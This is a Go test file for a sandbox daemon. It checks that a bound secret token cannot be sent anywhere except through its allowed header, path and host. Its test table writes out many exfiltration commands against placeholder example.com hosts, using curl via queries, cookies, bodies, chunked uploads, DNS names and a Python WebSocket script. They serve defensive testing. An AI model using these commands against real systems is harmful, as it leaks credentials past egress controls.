package daemon

import (
	"strings"
	"testing"

	"hortus.dev/api"
	"hortus.dev/test/world"
)

// attackWebSocket opens a WebSocket and sends $P in a message.
const attackWebSocket = `python3 -c '
import os, socket, ssl
p = os.environ["P"].encode()
s = ssl.create_default_context().wrap_socket(socket.create_connection(("example.com", int(os.environ["PORT"]))), server_hostname="example.com")
s.sendall(b"GET /socket HTTP/1.1\r\nHost: example.com:" + os.environ["PORT"].encode() + b"\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n")
got = b""
while b"\r\n\r\n" not in got:
    more = s.recv(4096)
    if not more: raise SystemExit("no answer")
    got += more
s.sendall(bytes([0x81, 0x80 | len(p)]) + b"\0\0\0\0" + p)
print(got + s.recv(100))
'`

// lookup is the attack that only looks a name up.
const lookup = "a name that is looked up"

// TestSecretIsNotSentElsewhere has programs in a sandbox send a placeholder in every other way than
// its binding allows. Each is an alarm, and no server gets the placeholder or the value. The control
// of each sends other text in the same way, which arrives.
func TestSecretIsNotSentElsewhere(t *testing.T) {
	world.Both(t, func(v *world.Vault) {
		v.Set("token", v.At("example.com", "/bound/**", world.InHeader))
		bound, free := "https://example.com:"+v.Out.Port+"/bound/x", "https://example.com:"+v.Out.Port+"/free"
		s := v.Sandbox(api.CreateSandbox{Egress: v.Policy("*.labels.example.com")}, "token")
		world.Needs(v.T, s, "curl", "python3")
		const header = `curl -sS -H "Authorization: Bearer $P" `
		use := strings.ReplaceAll(header, "$P", "$TOKEN") + bound
		v.Works("first", s, use, "token")
		for _, c := range []struct{ what, script string }{
			{"another path", header + free},
			{"the path itself", `curl -sS ` + bound + `/$P`},
			{"the query", `curl -sS "` + bound + `?q=$P"`},
			{"the query, encoded", `curl -sS "` + bound + `?q=%68${P#h}"`},
			{"another header", `curl -sS -H "X-Token: $P" ` + bound},
			{"two headers", header + `-H "X-Token: $P" ` + bound},
			{"the name of a header", `curl -sS -H "$P: x" ` + bound},
			{"a cookie", `curl -sS -b "a=$P" ` + bound},
			{"basic authentication", `curl -sS -u "me:$P" ` + bound},
			{"the body", `curl -sS -d "x=$P" ` + bound},
			{"the body of a request that may have it", header + `-d "x=$P" ` + bound},
			{"the body of another request", `curl -sS -d "x=$P" ` + free},
			{"the body, in chunks", `printf "x=%s" "$P" | curl -sS --http1.1 -H "Transfer-Encoding: chunked" -H "Expect:" -T - ` + bound},
			{"a form with files", `curl -sS -F "f=$P" ` + free},
			{"another host", header + strings.Replace(bound, "example.com", "other.example.com", 1)},
			{"another host's body", `curl -sS -d "x=$P" ` + strings.Replace(free, "example.com", "other.example.com", 1)},
			{"http", header + "http://example.com:" + v.Out.Clear + "/bound/x"},
			{"http, the body", `curl -sS -d "$P" http://other.example.com:` + v.Out.Clear + "/x"},
			{"the name of a host", `curl -sS https://$P.labels.example.com:` + v.Out.Port + "/"},
			{lookup, `python3 -c 'import os, socket; print(socket.getaddrinfo(os.environ["P"] + ".labels.example.com", 443))'`},
			{"a WebSocket", attackWebSocket},
		} {
			env := `export PORT=` + v.Out.Port + `; `
			v.Refused(c.what, s, env+`export P=$TOKEN; `+c.script)
			const harmless = "harmless-text-abcdefghijklmnopqrstuvwxyz"
			before := len(v.Refusals(s.ID()))
			out, err := v.Sh(s, env+`export P=`+harmless+`; `+c.script)
			// The first letter may be encoded. A name that is not connected to has its answer within the host.
			if seen := v.Take(); !strings.Contains(strings.ToLower(seen), harmless[1:]) && !(c.what == lookup && strings.Contains(out, "AF_INET")) {
				v.T.Errorf("the control of %s: %v, %s; the server got %q", c.what, err, out, seen)
			}
			if after := v.Refusals(s.ID()); len(after) != before {
				v.T.Errorf("the control of %s: an alarm: %+v", c.what, after[0])
			}
		}
		v.Works("last", s, use, "token")
	})
}
